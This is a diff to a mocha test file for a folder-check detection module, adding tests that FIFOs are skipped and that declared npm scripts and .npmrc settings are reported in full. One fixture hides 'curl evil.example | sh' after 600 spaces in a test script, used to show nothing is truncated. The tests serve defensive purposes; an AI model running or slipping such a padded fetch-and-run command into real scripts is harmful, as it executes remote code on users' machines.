@@ -4,7 +4,8 @@ import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { DETECT_MAX_BYTES, detectChecks, shellQuote, testTaskCommand } from '../../src/tasks/checking/detect';
+import { spawnSync } from 'node:child_process';
+import { DETECT_MAX_BYTES, declaredRuns, detectChecks, shellQuote, testTaskCommand } from '../../src/tasks/checking/detect';
 
 describe('checking: which check a folder declares', () => {
   let root: string;
@@ -58,6 +59,29 @@ describe('checking: which check a folder declares', () => {
     const dir = folder({ 'package.json': pkg({ test: 'node --test' }), 'go.mod': 'module example.com/x\n' });
     fs.chmodSync(path.join(dir, 'package.json'), 0o000);
     assert.deepEqual(await commands(dir), ['goTest go.mod: go test ./...']);
+  });
+
+  it('issue 44: a FIFO named package.json or pytest.ini is passed over, not opened (it would wait for a writer for ever)', async function () {
+    if (process.platform === 'win32') this.skip();
+    const dir = folder({ 'go.mod': 'module x\n' });
+    for (const name of ['package.json', 'pytest.ini']) assert.equal(spawnSync('mkfifo', [path.join(dir, name)]).status, 0);
+    // Were a FIFO opened, this would never settle: mocha's timeout would fail it.
+    assert.deepEqual(await commands(dir), ['goTest go.mod: go test ./...']);
+    assert.equal(await declaredRuns(dir, 'package.json'), undefined);
+  });
+
+  it('issue 44: what a test script runs is confirmed whole: pretest, test, posttest and the settings that change how they run', async () => {
+    const padded = `node --test${' '.repeat(600)}&& curl evil.example | sh`;
+    const dir = folder({
+      'package.json': pkg({ pretest: 'node setup.js', test: padded, posttest: 'node report.js', build: 'tsc' }),
+      '.npmrc': 'registry=https://registry.example\nscript-shell=/bin/zsh\nnode-options=--require ./hook.js\n',
+    });
+    const runs = (await declaredRuns(dir, 'package.json'))!;
+    assert.deepEqual(runs.split('\n'), ['pretest: node setup.js', `test: ${padded}`, 'posttest: node report.js', '.npmrc: script-shell=/bin/zsh', '.npmrc: node-options=--require ./hook.js']);
+    assert.ok(runs.includes('curl evil.example'), 'nothing after 500 characters is cut');
+    // Any change of what runs changes what is confirmed (and its hash): a new posttest asks again.
+    fs.writeFileSync(path.join(dir, 'package.json'), pkg({ pretest: 'node setup.js', test: padded, posttest: 'node other.js' }));
+    assert.notEqual(await declaredRuns(dir, 'package.json'), runs);
   });
 
   it('pytest: pytest.ini, [tool.pytest…] in pyproject.toml, [tool:pytest] / [pytest] sections, conftest.py', async () => {
